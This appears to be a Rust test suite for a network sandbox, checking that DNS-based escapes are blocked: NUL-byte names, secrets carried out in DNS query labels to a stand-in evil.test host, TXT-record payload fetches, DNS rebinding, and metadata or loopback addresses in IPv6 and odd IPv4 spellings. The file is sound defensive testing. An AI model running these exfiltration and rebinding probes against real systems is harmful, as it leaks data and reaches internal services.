//! Known ways around a network policy by names: data in questions and answers, names that are none, addresses that change
//! or are spelled otherwise. As in `attacks_net`, each probe is shown to succeed with nothing in its way.

use crate::net::{Canary, net};
use airlock_tests::internet::{HOST, METADATA, NAMESERVER, PRIVATE, WEB};
use serde_json::Value;
use std::process::Command;

const NOTHING: Vec<Value> = Vec::new();

/// 41: a NUL in a name passed a check by suffix and was cut off by libc.
#[test]
fn a_name_with_a_nul_or_a_dot_in_a_label_is_no_name() {
    let Some(net) = net() else { return };
    let (name, mark) = (net.internet.name("web"), net.internet.mark().to_owned());

    let probe = format!(
        r#"
labels = "{name}".encode().split(b".")
for first in (b"evil{mark}\0", b"\0", b"a.b", b"evil{mark}.test\0", b"*", b" ", b"%", b"@", b"\x23"):
    said = lookup(asked([first] + labels))
    say(said if said.startswith("NOERROR") else "refused")
say(lookup(asked("plain.{name}")))
"#
    );

    let said = net.inside(&["--allow", &format!("*.{name}")], &probe);
    assert_eq!(said, "refused\n".repeat(9) + "NOERROR 1\n");
    assert_eq!(net.internet.queries(&format!("evil{mark}")), NOTHING);
}

/// 44: data left in the labels of questions, though the request that followed was denied.
#[test]
fn data_does_not_leave_in_the_labels_of_questions() {
    let Some(net) = net() else { return };
    let (name, mark) = (net.internet.name("web"), net.internet.mark().to_owned());
    // One dig asks for everything: starting a program costs more than asking.
    let script = |server: &str| {
        format!(
            "for name in secret{mark}.evil.test secret{mark}.{name} {mark}secret.{name}.evil.test; do \
             for how in +notcp +tcp; do dig {server} +tries=1 +time=2 $how $name A $name AAAA $name TXT $name NULL \
             $name MX $name CNAME $name HTTPS; done; \
             getent hosts $name; curl -s -m 3 http://$name/; busybox nslookup $name; done > /dev/null 2>&1; exit 0"
        )
    };

    net.world.sh(["--allow", &name], &script("")).run().succeeded();
    net.world.sh(["--allow", &name], &script(&format!("@{NAMESERVER}"))).run().succeeded();

    assert_eq!(net.internet.queries(&mark), NOTHING);
    Command::new("dig").args(["+tries=1", &format!("secret{mark}.evil.test")]).output().expect("dig runs");
    assert_ne!(net.internet.queries(&format!("secret{mark}")), NOTHING, "the probe cannot fail");
}

/// 44 under a wildcard: labels are spent from a budget, and each is on record.
#[test]
fn a_wildcard_gives_away_no_more_labels_than_its_budget() {
    let Some(net) = net() else { return };
    let name = net.internet.name("v4");
    let sandbox = net.waiting(&["--allow", &format!("*.{name}")]);

    let probe = format!(
        r#"
said = [reach("d%d.{name}" % n, 80) for n in range(280)]
say(said.count("done"), said[-1])
"#
    );
    let said = net.inside_running(&sandbox, &probe);

    assert_eq!(said, "256 noname\n");
    let names: std::collections::BTreeSet<String> = net
        .internet
        .queries(&name)
        .iter()
        .filter_map(|query| query["name"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(names.len(), 256);
}

/// 45: a payload was fetched by a TXT question.
#[test]
fn no_text_record_comes_in() {
    let Some(net) = net() else { return };
    let name = net.internet.name("text");
    let script =
        format!("dig +short {name} TXT; dig +short +tcp {name} TXT; dig +short @{NAMESERVER} {name} TXT");

    assert_eq!(net.world.sh(["--allow", &name], &script).run().succeeded(), "");
    let outside = Command::new("sh").args(["-c", &script]).output().expect("dig runs").stdout;
    assert!(String::from_utf8_lossy(&outside).contains("payload-one"), "the probe cannot fail");
}

/// 55: the second answer for an allowed name was an address inside.
#[test]
fn a_name_that_changes_its_address_never_leads_inside() {
    let Some(net) = net() else { return };
    let private = net.internet.nowhere_private();
    let canary = Canary::on("127.0.0.1");
    let turning = format!("{}.a-{}.rebind.test", net.internet.mark(), private.replace('.', "-"));
    let local = format!("x{}.a-127-0-0-1.rebind.test", net.internet.mark());

    let probe = format!(
        r#"
say(set(reach("{turning}", wait=10) for _ in range(6)) <= {{"done", "ECONNRESET"}})
for _ in range(4):
    reach("{local}", {}, wait=10)
"#,
        canary.port()
    );

    let flags = ["--allow", &turning, "--allow", &format!("{local}:{}", canary.port())];
    assert_eq!(net.inside(&flags, &probe), "True\n");
    assert_eq!(net.internet.packets_to(&private), NOTHING);
    assert_eq!(canary.visits(), 0);
    net.outside(&format!(r#"[reach("{turning}", wait=1) for _ in range(3)]"#));
    assert_ne!(net.internet.packets_to(&private), NOTHING, "the probe cannot fail");
}

/// 55, 56: every form of an address that must not be reached, as the answer to an allowed name.
#[test]
fn no_answer_in_whatever_form_leads_to_a_special_address() {
    let Some(net) = net() else { return };
    let private = net.internet.nowhere_private();
    let four = [
        METADATA,
        PRIVATE,
        &private,
        "127.0.0.1",
        "127.8.9.10",
        "0.0.0.0",
        "172.16.5.5",
        "192.168.5.5",
        "100.64.0.9",
        "169.254.1.1",
        "198.18.0.1",
        "224.0.0.1",
        "240.0.0.1",
        "255.255.255.255",
        HOST,
        "192.0.2.1",
        "192.88.99.1",
    ];
    // Loopback, metadata and a private address: plain, mapped, compatible, NAT64, 6to4, Teredo; link-local, site-local,
    // unique local, multicast, documentation, this host.
    let six = [
        "00000000000000000000000000000001",
        "00000000000000000000000000000000",
        "00000000000000000000ffffa9fea9fe",
        "00000000000000000000ffff7f000001",
        "0000000000000000000000007f000001",
        "0064ff9b0000000000000000a9fea9fe",
        "0064ff9b00010000000000000a140005",
        "20027f00000100000000000000000001",
        "2002a9fea9fe00000000000000000001",
        "200100000000000000000000f5ebfffa",
        "fe800000000000000000000000000001",
        "fec00000000000000000000000000001",
        "fd002000000000000000000000000005",
        "fd000ec2000000000000000000000254",
        "ff020000000000000000000000000001",
        "20010db8000000000000000000000001",
        "26001f00000700000000000000000010",
    ];
    let mark = net.internet.mark();
    let fours = four.iter().map(|address| format!("{mark}.a-{}.ip.test", address.replace('.', "-")));
    let names: Vec<String> = fours.chain(six.iter().map(|hex| format!("{mark}.h-{hex}.ip.test"))).collect();
    let flags: Vec<&str> = names.iter().flat_map(|name| ["--allow", name]).collect();

    let probe = format!(
        "for name in {names:?}:\n    said = reach(name, wait=10)\n    say(said if said == 'ECONNRESET' else (name, said))"
    );

    assert_eq!(net.inside(&flags, &probe), "ECONNRESET\n".repeat(names.len()));
    assert_eq!(net.internet.packets_to(&private), NOTHING);
    let weak = format!("say(reach('{}'), reach('{}'))", names[0], names[1]);
    assert_eq!(net.outside(&weak), "done done\n", "the probe cannot fail");
}

/// 56: an address in another spelling passed for a name.
#[test]
fn an_address_in_another_spelling_is_neither_a_name_nor_a_rule() {
    let Some(net) = net() else { return };
    let spellings = ["0x7f.1", "2130706433", "0177.0.0.1", "127.1", "0x5db8d822", "93.184.55330"];
    for spelled in spellings {
        let refused = net.world.airlock(["run", "--allow", spelled, "--", "true"]).run();
        assert!([2, 125].contains(&refused.code), "{spelled}: {refused}");
    }

    let probe = format!(
        r#"
for spelled in ("0x5db8d822", "1572395042", "0135.0270.0330.042", "93.184.55330", "{WEB}."):
    said = reach(spelled, 80, wait=5)
    say(said if said in ("ECONNREFUSED", "noname", "again") else (spelled, said))
"#
    );
    let said = net.inside(&["--allow", "*.web.test"], &probe);
    assert!(!said.contains("done") && said.lines().count() == 5 && !said.contains('('), "{said}");
    assert!(net.outside(&probe).contains("'done'"), "the probe cannot fail");
}

/// 57: an encoded label that decodes to plain ASCII equalled an allowed name.
#[test]
fn a_false_encoding_of_a_name_is_not_that_name() {
    let Some(net) = net() else { return };
    let mark = net.internet.mark().trim_end_matches('x').to_owned();
    let name = format!("{mark}.web.test");

    let probe = format!(
        r#"
for label in (b"xn--{mark}-", b"xn--{mark}", b"XN--{mark}-", b"{mark}\xc2\xad", b"\xef\xbd\x8d{mark}"):
    said = lookup(asked([label, b"web", b"test"]))
    say("refused" if not said.startswith("NOERROR") else (label, said))
say(lookup(asked("{name}")))
"#
    );

    assert_eq!(net.inside(&["--allow", &name], &probe), "refused\n".repeat(5) + "NOERROR 1\n");
    let rule = net.world.airlock(["run", "--allow", &format!("xn--{mark}-.web.test"), "--", "true"]).run();
    assert!([2, 125].contains(&rule.code), "{rule}");
}
